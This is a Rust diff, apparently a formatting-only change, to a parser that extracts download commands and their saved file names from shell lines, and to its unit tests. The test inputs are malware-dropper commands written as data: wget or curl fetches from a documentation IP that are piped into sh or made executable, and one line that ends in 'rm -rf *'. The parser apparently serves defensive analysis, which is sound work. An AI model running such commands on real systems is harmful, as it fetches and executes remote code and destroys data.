@@ -127,8 +127,7 @@ fn option_value<'a>(
 fn fetches_of(words: &[String]) -> Vec<Fetch> {
     // `busybox wget ...`, `/usr/bin/curl ...`, `sudo wget`.
     let mut start = 0;
-    while start < words.len() && matches!(basename(&words[start]), "busybox" | "sudo" | "nohup")
-    {
+    while start < words.len() && matches!(basename(&words[start]), "busybox" | "sudo" | "nohup") {
         start += 1;
     }
     let Some(program) = words.get(start).map(|w| basename(w)) else {
@@ -287,26 +286,60 @@ mod tests {
         let f = one("cd /tmp; wget http://198.51.100.9/bins/x86.sh; chmod +x x86.sh");
         assert_eq!(f.url, "http://198.51.100.9/bins/x86.sh");
         assert_eq!(f.saves_to.as_deref(), Some("x86.sh"));
-        assert_eq!(one("wget -q -O /tmp/a http://h/p?x=1").saves_to.as_deref(), Some("/tmp/a"));
-        assert_eq!(one("wget -O/tmp/b http://h/p").saves_to.as_deref(), Some("/tmp/b"));
         assert_eq!(
-            one("wget --output-document=c.bin http://h/p").saves_to.as_deref(),
+            one("wget -q -O /tmp/a http://h/p?x=1").saves_to.as_deref(),
+            Some("/tmp/a")
+        );
+        assert_eq!(
+            one("wget -O/tmp/b http://h/p").saves_to.as_deref(),
+            Some("/tmp/b")
+        );
+        assert_eq!(
+            one("wget --output-document=c.bin http://h/p")
+                .saves_to
+                .as_deref(),
             Some("c.bin")
         );
-        assert_eq!(one("wget http://h/").saves_to.as_deref(), Some("index.html"));
+        assert_eq!(
+            one("wget http://h/").saves_to.as_deref(),
+            Some("index.html")
+        );
         assert_eq!(one("wget http://h").saves_to.as_deref(), Some("index.html"));
-        assert_eq!(one("wget -P /var/tmp http://h/m.sh").saves_to.as_deref(), Some("/var/tmp/m.sh"));
-        assert_eq!(one("busybox wget http://h/k -O- > k2").saves_to.as_deref(), Some("k2"));
-        assert_eq!(one("wget 'http://h/q uoted.sh'").saves_to.as_deref(), Some("q uoted.sh"));
+        assert_eq!(
+            one("wget -P /var/tmp http://h/m.sh").saves_to.as_deref(),
+            Some("/var/tmp/m.sh")
+        );
+        assert_eq!(
+            one("busybox wget http://h/k -O- > k2").saves_to.as_deref(),
+            Some("k2")
+        );
+        assert_eq!(
+            one("wget 'http://h/q uoted.sh'").saves_to.as_deref(),
+            Some("q uoted.sh")
+        );
     }
 
     #[test]
     fn curl_names() {
         assert_eq!(one("curl -s http://h/x.sh | sh").saves_to, None);
-        assert_eq!(one("curl -o /tmp/y http://h/x").saves_to.as_deref(), Some("/tmp/y"));
-        assert_eq!(one("curl -O https://h/dir/z.tar.gz").saves_to.as_deref(), Some("z.tar.gz"));
-        assert_eq!(one("curl -sL http://h/x > /tmp/r").saves_to.as_deref(), Some("/tmp/r"));
-        assert_eq!(one("/usr/bin/curl --output=o http://h/x").saves_to.as_deref(), Some("o"));
+        assert_eq!(
+            one("curl -o /tmp/y http://h/x").saves_to.as_deref(),
+            Some("/tmp/y")
+        );
+        assert_eq!(
+            one("curl -O https://h/dir/z.tar.gz").saves_to.as_deref(),
+            Some("z.tar.gz")
+        );
+        assert_eq!(
+            one("curl -sL http://h/x > /tmp/r").saves_to.as_deref(),
+            Some("/tmp/r")
+        );
+        assert_eq!(
+            one("/usr/bin/curl --output=o http://h/x")
+                .saves_to
+                .as_deref(),
+            Some("o")
+        );
     }
 
     #[test]
@@ -328,9 +361,18 @@ mod tests {
                     curl -O http://198.51.100.9/c.sh; rm -rf *";
         let found = fetches(line);
         assert_eq!(found.len(), 3);
-        assert_eq!(url_for(&found, "/tmp/bins.sh"), Some("http://198.51.100.9/bins.sh"));
-        assert_eq!(url_for(&found, "/tmp/tftp1.sh"), Some("tftp://198.51.100.9/tftp1.sh"));
-        assert_eq!(url_for(&found, "/tmp/c.sh"), Some("http://198.51.100.9/c.sh"));
+        assert_eq!(
+            url_for(&found, "/tmp/bins.sh"),
+            Some("http://198.51.100.9/bins.sh")
+        );
+        assert_eq!(
+            url_for(&found, "/tmp/tftp1.sh"),
+            Some("tftp://198.51.100.9/tftp1.sh")
+        );
+        assert_eq!(
+            url_for(&found, "/tmp/c.sh"),
+            Some("http://198.51.100.9/c.sh")
+        );
         assert_eq!(url_for(&found, "/tmp/other"), None);
         assert_eq!(url_for(&found, "/tmp/xbins.sh"), None);
     }
@@ -339,7 +381,16 @@ mod tests {
     fn nothing_for_other_commands_and_no_panic_on_junk() {
         assert!(fetches("echo http://h/x > /tmp/u").is_empty());
         assert!(fetches("").is_empty());
-        for junk in ["wget", "wget -O", "curl -o", "'unterminated", "\\", "tftp -r", "> >", "ftpget -u"] {
+        for junk in [
+            "wget",
+            "wget -O",
+            "curl -o",
+            "'unterminated",
+            "\\",
+            "tftp -r",
+            "> >",
+            "ftpget -u",
+        ] {
             let _ = fetches(junk);
         }
         let long = "wget http://h/x;".repeat(5000);
